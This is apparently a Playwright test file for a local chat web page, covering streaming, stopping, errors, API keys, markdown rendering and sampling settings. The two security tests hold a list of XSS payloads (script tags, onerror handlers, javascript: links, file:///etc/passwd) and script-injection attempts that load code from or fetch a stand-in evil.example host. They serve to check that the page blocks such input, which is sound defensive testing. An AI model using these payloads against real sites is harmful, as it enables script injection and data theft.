"""The chat page: answers that stream, stop and fail, over a server with canned answers and the real guard."""

from __future__ import annotations

import json
import threading

import pytest
from canned import WAIT_S, Answer, Canned, said, serving
from chat_page import ChatPage
from playwright.sync_api import Dialog, expect
from tabs import NewTab


@pytest.fixture
def chat(canned: Canned, new_tab: NewTab) -> ChatPage:
    return ChatPage(new_tab(), canned).open()


def test_an_answer_streams_and_nothing_is_fetched_from_elsewhere(chat: ChatPage) -> None:
    more = threading.Event()
    chat.server.will_say(Answer([*said("Blue light ", "scatters"), more, *said(" more.")]))
    chat.send("Why is the sky blue?")
    expect(chat.answers).to_have_text("Blue light scatters")
    assert chat.server.asked == [
        {
            "messages": [{"role": "user", "content": "Why is the sky blue?"}],
            "stream": True,
            "stream_options": {"include_usage": True},
        }
    ]
    more.set()
    chat.wait()
    expect(chat.answers).to_have_text("Blue light scatters more.")
    expect(chat.tab.page.locator(".assistant .stats")).to_contain_text("7 tokens · 81.3 tokens/s")
    chat.ask("And red?", "Less.")
    assert [one["content"] for one in chat.server.asked[1]["messages"]] == [
        "Why is the sky blue?",
        "Blue light scatters more.",
        "And red?",
    ]
    assert {address.startswith((chat.server.url, "data:")) for address in chat.tab.requests} == {True}
    assert chat.tab.complaints == []


def test_stopping_ends_the_computing_and_keeps_what_was_said(chat: ChatPage) -> None:
    answer = Answer([*said("On and on"), threading.Event()])
    chat.server.will_say(answer)
    chat.send("Go on")
    expect(chat.answers).to_have_text("On and on")
    chat.button("Stop the answer").click()
    assert answer.left.wait(WAIT_S)
    chat.wait()
    expect(chat.tab.page.locator(".assistant .stats")).to_contain_text("stopped")
    chat.ask("Again", "Yes")
    assert chat.server.asked[1]["messages"][1] == {"role": "assistant", "content": "On and on"}


@pytest.mark.parametrize(
    ("answer", "told"),
    [
        (Answer(status=400, error={"message": "the prompt has <b>700</b> tokens"}), "the prompt has <b>700</b> tokens"),
        (Answer(said("Hm"), error={"message": "the engine was lost"}), "the engine was lost"),
        (Answer(said("Hm"), breaks_off=True), "The connection"),
    ],
)
def test_a_failure_is_told_and_another_try_may_succeed(chat: ChatPage, answer: Answer, told: str) -> None:
    chat.ask("Hello", answer)
    expect(chat.tab.page.locator(".problem")).to_contain_text(told)
    chat.server.will_say("There")
    chat.button("Answer again").click()
    expect(chat.answers).to_have_text("There")
    expect(chat.tab.page.locator(".problem:visible")).to_have_count(0)


def test_a_model_that_is_being_loaded_is_waited_for(canned: Canned, new_tab: NewTab) -> None:
    meta, canned.meta = canned.meta, None
    page = new_tab().page
    page.goto(canned.url)
    expect(page.locator("#status")).to_have_text("the model is being loaded, 50 %")
    page.fill("#question", "Hello")
    expect(page.locator("#send")).to_be_disabled()
    canned.meta = meta
    expect(page.locator("#status")).to_have_text("talker")
    expect(page.locator("#send")).to_be_enabled()


def test_a_key_is_asked_for_once_and_kept_for_the_tab(new_tab: NewTab) -> None:
    with serving(Canned(), "secret") as server:
        tab = new_tab()
        tab.page.goto(server.url)
        for given, told in (("wrong", "an API key is needed"), ("secret", "the API key is wrong")):
            expect(tab.page.locator("#key-problem")).to_contain_text(told)
            tab.page.fill("#key", given)
            tab.page.keyboard.press("Enter")
        chat = ChatPage(tab, server)
        expect(chat.status).to_have_text("talker")
        chat.ask("Hello", "Hi")
        expect(chat.answers).to_have_text("Hi")
        tab.page.reload()
        expect(chat.status).to_have_text("talker")
        assert tab.page.evaluate("JSON.stringify(localStorage)").find("secret") < 0


MARKDOWN = """# Title

Some *emphasis*, **strength**, `code & <b>`, a\\* &amp; b and [a link](https://example.org/x).

1. one
   - inner
2. two

- [x] done

> quoted
> twice

| a | b |
|---|--:|
| 1 | `2` |

```js
let x = "<b>";
```
"""


def test_markdown_becomes_elements(chat: ChatPage) -> None:
    chat.ask("Show me", MARKDOWN)
    page = chat.tab.page
    expect(page.locator(".content h3")).to_have_text("Title")
    expect(page.locator(".content p").first).to_have_text("Some emphasis, strength, code & <b>, a* & b and a link.")
    expect(page.locator(".content ol > li > ul > li")).to_have_text("inner")
    expect(page.locator(".content input[type=checkbox]")).to_be_checked()
    expect(page.locator(".content blockquote")).to_have_text("quoted\ntwice", use_inner_text=True)
    expect(page.locator(".content td").last).to_have_text("2")
    expect(page.locator(".content td").last).to_have_css("text-align", "right")
    expect(page.locator(".content pre")).to_have_text('let x = "<b>";')
    link = page.locator(".content a")
    assert (link.get_attribute("href"), link.get_attribute("target")) == ("https://example.org/x", "_blank")
    assert "noopener" in (link.get_attribute("rel") or "")
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    chat.button("Copy the code").click()
    assert page.evaluate("navigator.clipboard.readText()") == 'let x = "<b>";'


HOSTILE = """<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 1">
<svg onload="window.hacked = 1"><a xlink:href="javascript:window.hacked = 1">x</a></svg>
<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><style>body { display: none }</style>

[one](javascript:window.hacked=1) [two](JaVaScRiPt:window.hacked=1) [three](data:text/html,<script>hacked=1</script>)
[four](&#106;avascript:window.hacked=1) [five](vbscript:x) <javascript:window.hacked=1> [six](file:///etc/passwd)
[seven](//evil.example/x "onmouseover=window.hacked=1") ![eight](https://evil.example/p.png)
![nine](x" onerror="window.hacked=1)

[ref]: javascript:window.hacked=1
A [ref] and <a href="javascript:window.hacked=1" onclick="window.hacked=1">ten</a> <form action="https://evil.example">

```<img src=x onerror=window.hacked=1>
</code><script>window.hacked = 1</script>
```

| <img src=x onerror=window.hacked=1> |
|---|
| <script>window.hacked = 1</script> |
"""


def test_nothing_of_a_message_runs_or_fetches(chat: ChatPage) -> None:
    dialogs: list[Dialog] = []
    chat.tab.page.on("dialog", lambda dialog: dialogs.append(dialog))
    step = [{"reasoning_content": HOSTILE}, {"content": HOSTILE}]
    chat.ask(HOSTILE, Answer(step, error={"message": HOSTILE}))
    page = chat.tab.page
    page.reload()
    expect(page.locator(".assistant > .content")).to_contain_text("<script>window.hacked = 1</script>")
    page.locator(".reasoning summary").click()
    inside = "[...document.querySelectorAll('#messages .content *, #messages .problem *, #conversations *')]"
    names = set(page.evaluate(f"{inside}.map(one => one.localName)"))
    assert names & {"script", "img", "iframe", "style", "form", "object", "embed", "base", "meta", "link"} == set()
    assert page.evaluate(f"{inside}.filter(one => one.closest('.content') && one.localName === 'svg').length") == 0
    attributes = set(page.evaluate(f"{inside}.flatMap(one => one.getAttributeNames())"))
    assert not {name for name in attributes if name.startswith("on") or name in ("srcdoc", "src")}
    links = page.evaluate("[...document.querySelectorAll('#messages a')].map(one => one.href)")
    assert {link for link in links if not link.startswith("https://evil.example/p.png")} == set()
    for text in ("one", "two", "three", "four", "ten"):
        page.locator(".assistant > .content").get_by_text(text).first.click()
    assert page.evaluate("window.hacked") is None
    assert dialogs == []
    assert {address.startswith(chat.server.url) for address in chat.tab.requests} == {True}
    assert chat.tab.complaints == []


def test_the_policy_stops_scripts_that_are_not_the_page_s_own(chat: ChatPage) -> None:
    tries = [
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.hacked = 1'}))",
        "document.body.innerHTML = '<img src=x onerror=\"window.hacked = 1\">'",
        "document.body.insertAdjacentHTML('beforeend', '<b>')",
        "setTimeout('window.hacked = 1', 0)",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
    ]
    for expression in tries:
        assert (
            chat.tab.page.evaluate(
                f"(() => {{ try {{ {expression}; return 'done'; }} catch (error) {{ return error.name; }} }})()"
            )
            == "TypeError"
        )
    blocked = "fetch('https://evil.example/').then(() => 'done', () => 'blocked')"
    assert chat.tab.page.evaluate(blocked) == "blocked"
    assert chat.tab.page.evaluate("window.hacked") is None
    assert {address.startswith(chat.server.url) for address in chat.tab.requests} == {True}


def test_reasoning_is_folded(chat: ChatPage) -> None:
    more = threading.Event()
    chat.server.will_say(Answer([{"reasoning_content": "Let me **see**"}, more, {"content": "Four."}]))
    chat.send("2 + 2?")
    page = chat.tab.page
    expect(page.locator("summary")).to_have_text("Thinking …")
    expect(page.locator(".reasoning .content")).to_be_hidden()
    more.set()
    chat.wait()
    expect(page.locator("summary")).to_have_text("Thoughts")
    page.locator("summary").click()
    expect(page.locator(".reasoning .content")).to_have_text("Let me see")
    chat.ask("And 3 + 3?", "Six.")
    assert chat.server.asked[1]["messages"][1]["reasoning_content"] == "Let me **see**"


def test_a_very_long_answer_stays_quick_to_draw(chat: ChatPage) -> None:
    """Blocks that are complete are not made again: their elements stay the same."""
    more = threading.Event()
    chat.server.will_say(Answer([*said("First\n\n"), more, *said(*["word " * 20 + "\n\n" for _ in range(200)])]))
    chat.send("Write")
    expect(chat.answers).to_have_text("First")
    chat.tab.page.evaluate("document.querySelector('.assistant .content p').dataset.mark = 'same'")
    more.set()
    chat.wait()
    expect(chat.tab.page.locator(".assistant .content p")).to_have_count(201)
    expect(chat.tab.page.locator(".assistant .content p").first).to_have_attribute("data-mark", "same")


def test_system_prompt_and_sampling_are_sent(chat: ChatPage) -> None:
    page = chat.tab.page
    chat.button("System prompt and sampling").click()
    page.get_by_label("System prompt", exact=True).fill("You answer in one word.")
    page.get_by_label("Temperature").fill("0.25")
    page.get_by_label("Most tokens").fill("9")
    chat.button("Use", "#settings").click()
    chat.ask("Hello", "Hi")
    sent = chat.server.asked[0]
    assert sent["messages"][0] == {"role": "system", "content": "You answer in one word."}
    assert (sent["temperature"], sent["max_tokens"]) == (0.25, 9)
    assert "top_p" not in sent
    page.reload()
    chat.ask("Again", "Hi")
    assert chat.server.asked[1]["temperature"] == 0.25
    assert json.dumps(chat.server.asked[1]["messages"][0]) == json.dumps(sent["messages"][0])
